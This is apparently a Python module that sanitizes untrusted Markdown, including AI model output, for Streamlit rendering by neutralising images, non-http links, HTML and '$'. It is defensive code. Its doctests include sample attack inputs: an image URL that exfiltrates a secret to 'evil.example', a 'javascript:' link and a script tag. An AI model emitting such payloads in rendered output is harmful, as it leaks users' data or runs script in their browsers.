"""Make untrusted text (model output, product fields) safe to hand to ``st.markdown``.

``st.markdown`` already refuses raw HTML; this also stops the browser from fetching images the model
chose (the classic exfiltration channel), makes links with non-http(s) schemes plain text, and
escapes ``$`` so prices are not typeset as LaTeX. Fenced and inline code are left as written.
"""

from __future__ import annotations

import re

_FENCE_RE = re.compile(r"(^|\n)(```|~~~)[^\n]*\n.*?(\n\2[ \t]*(?=\n|$)|$)", re.DOTALL)
_INLINE_CODE_RE = re.compile(r"(`+)(?:(?!\1).)+?\1", re.DOTALL)
_LINK_RE = re.compile(
    r"(?<!\\)\[((?:[^\[\]\\]|\\.)*)\]\(\s*<?((?:[^()\s]|\([^()\s]*\))*?)>?(?:\s+\"[^\"]*\")?\s*\)"
)
_REF_DEF_RE = re.compile(r"^([ ]{0,3})\[([^\]]+)\]:[ \t]*(\S+)", re.MULTILINE)
_SAFE_SCHEME_RE = re.compile(r"^(https?:)?//|^https?:", re.IGNORECASE)


def _is_safe_href(url: str) -> bool:
    return bool(_SAFE_SCHEME_RE.match(url.strip()))


def _sanitize_prose(text: str) -> str:
    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if _is_safe_href(url):
            return match.group(0)
        return f"{label} (\\[link removed: {url.split(':', 1)[0]}\\])" if ":" in url else label

    def ref_def(match: re.Match[str]) -> str:
        if _is_safe_href(match.group(3)):
            return match.group(0)
        return f"{match.group(1)}\\[{match.group(2)}\\]: {match.group(3)}"

    # Links first, while their URLs are intact; then HTML, LaTeX and images are neutralised.
    text = _REF_DEF_RE.sub(ref_def, _LINK_RE.sub(link, text))
    text = text.replace("<", "\\<").replace("$", "\\$")
    # Images become plain text: the viewer's browser must never fetch a URL the model chose.
    return re.sub(r"!\[", r"!\\[", text)


def _outside_inline_code(text: str) -> str:
    out, last = [], 0
    for match in _INLINE_CODE_RE.finditer(text):
        out.append(_sanitize_prose(text[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_sanitize_prose(text[last:]))
    return "".join(out)


def sanitize_markdown(text: str) -> str:
    """Markdown safe to render from an untrusted source.

    >>> sanitize_markdown("![x](https://evil.example/?q=secret)")
    '!\\\\[x](https://evil.example/?q=secret)'
    >>> sanitize_markdown("[click](javascript:alert(1))")
    'click (\\\\[link removed: javascript\\\\])'
    >>> sanitize_markdown("[docs](https://ollama.com)")
    '[docs](https://ollama.com)'
    >>> sanitize_markdown("costs $10 to $20 <b>bold</b>")
    'costs \\\\$10 to \\\\$20 \\\\<b>bold\\\\</b>'
    >>> sanitize_markdown("```html\\n<script>x</script>\\n```")
    '```html\\n<script>x</script>\\n```'
    """
    if not text:
        return ""
    out, last = [], 0
    for match in _FENCE_RE.finditer(text):
        start = match.start() + len(match.group(1))
        out.append(_outside_inline_code(text[last:start]))
        out.append(text[start : match.end()])
        last = match.end()
    out.append(_outside_inline_code(text[last:]))
    return "".join(out)


def plain_label(text: str, limit: int = 80) -> str:
    """A single line fit for a widget label or caption (labels render Markdown too)."""
    line = " ".join(str(text).split())
    if len(line) > limit:
        line = line[: limit - 1] + "…"
    return re.sub(r"([\\`*_{}\[\]()#+\-.!|<>$:~])", r"\\\1", line)
